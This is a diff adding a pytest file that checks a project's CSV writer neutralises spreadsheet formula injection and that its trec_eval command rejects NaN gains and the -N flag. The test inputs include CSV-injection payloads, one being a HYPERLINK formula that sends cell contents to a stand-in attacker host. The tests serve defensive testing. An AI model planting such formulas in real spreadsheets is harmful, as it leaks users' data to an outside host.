@@ -1,0 +1,56 @@
+"""Spreadsheet formulas in the CSV files the project writes (issue 40, M6) and ``ultra trec_eval``'s NaN gains and
+``-N`` (M12), through the real CLI."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import ROOT, run_ultra
+from ultra_kit.files import CSV_FORMULA_STARTS, csv_cell, csv_text
+
+QUESTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("start", CSV_FORMULA_STARTS)
+def test_every_formula_start_is_neutralised_and_numbers_are_not(start: str) -> None:
+    text = csv_text(["h", start + "head"], [[start + "cell", -0.5, 3, None]])
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0][1] == "'" + start + "head" and rows[1][0] == "'" + start + "cell"
+    assert rows[1][1:] == ["-0.5", "3", ""]  # a negative number is a number, not a formula
+    assert csv_cell("plain") == "plain" and csv_cell(-1) == -1
+
+
+def test_per_query_csv_neutralises_formulas_in_questions_and_answers(tmp_path: Path) -> None:
+    n = len(QUESTIONS)
+    evaluated = run_ultra("call", "evaluation.evaluate", f"pred_ls={json.dumps(QUESTIONS)}",
+                          f"gt_ls={json.dumps(['x'] * n)}", "metrics=[em]", "save_path=output/eval.json",
+                          cwd=tmp_path)  # fmt: skip
+    assert evaluated.returncode == 0, evaluated.stderr
+    result = json.loads(evaluated.stdout)["result_path"]
+    reported = run_ultra("call", "report.report", f"result_path={result}", f"q_ls={json.dumps(QUESTIONS)}",
+                         f"pred_ls={json.dumps(QUESTIONS)}", "out_dir=output/report", cwd=tmp_path)  # fmt: skip
+    assert reported.returncode == 0, reported.stderr
+    with (tmp_path / "output" / "report" / "per_query.csv").open(newline="") as handle:
+        text = handle.read()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [row["question"] for row in rows] == ["'" + q for q in QUESTIONS]
+    assert [row["answer"] for row in rows] == ["'" + q for q in QUESTIONS]
+    assert all(not cell.startswith(CSV_FORMULA_STARTS) for row in rows for cell in row.values() if cell)
+
+
+def test_trec_eval_refuses_a_nan_gain() -> None:
+    done = run_ultra("trec_eval", "-m", "ndcg.1=nan", "data/trec/qrels.test", "data/trec/results.test", cwd=ROOT)
+    assert done.returncode == 2 and done.stdout == "", done.stdout
+    assert done.stderr == "error: parameters '1=nan' of ndcg: 'nan' is not a finite number\n"
+
+
+def test_trec_eval_parses_minus_n_as_trec_eval_does() -> None:
+    """``-N 1000 qrels run``: 1000 is -N's value (not the qrels file); -N itself is refused, clearly."""
+    done = run_ultra("trec_eval", "-N", "1000", "data/trec/qrels.test", "data/trec/results.test", cwd=ROOT)
+    assert done.returncode == 2 and "unrecognized arguments" not in done.stderr, done.stderr
+    assert done.stderr.startswith("error: -N 1000: the number of documents in the collection is not supported")
